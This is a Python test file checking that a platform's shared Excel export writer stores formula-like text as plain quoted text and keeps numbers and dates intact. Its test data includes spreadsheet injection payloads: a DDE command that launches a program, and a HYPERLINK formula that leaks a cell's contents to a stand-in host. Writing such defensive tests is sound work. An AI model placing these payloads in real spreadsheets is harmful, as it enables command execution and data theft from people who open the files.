"""Formula injection: text that a spreadsheet would run as a formula is written as text
by the shared writer (``core.xlsx``) that every workbook of the platform goes through,
while numbers and dates stay numbers and dates."""

import datetime as dt
import io
import re
import zipfile

from openpyxl import load_workbook

from jiandu.core.xlsx import Column, export_rows

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")'
RISKY = [CALC, LINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def sheet_xml(data: bytes) -> str:
    """The XML of every worksheet of a workbook (a formula shows as ``<f>``)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [n for n in archive.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml", n)]
        return "".join(archive.read(n).decode() for n in names)


def all_values(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_export_rows_writes_formula_like_text_as_text_and_keeps_numbers():
    rows = [(text, 42, dt.date(2020, 3, 2)) for text in RISKY]
    data = export_rows(
        title="测试",
        columns=[
            Column("标题", lambda r: r[0]),
            Column("数量", lambda r: r[1]),
            Column("日期", lambda r: r[2]),
        ],
        rows=rows,
    )
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(data)).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [v[0] for v in values] == RISKY
    assert all(v[1] == 42 for v in values)
    for row in sheet.iter_rows(min_row=2):
        title, number, _date = row
        assert title.data_type == "s" and title.quotePrefix
        assert number.data_type == "n"
        assert _date.is_date
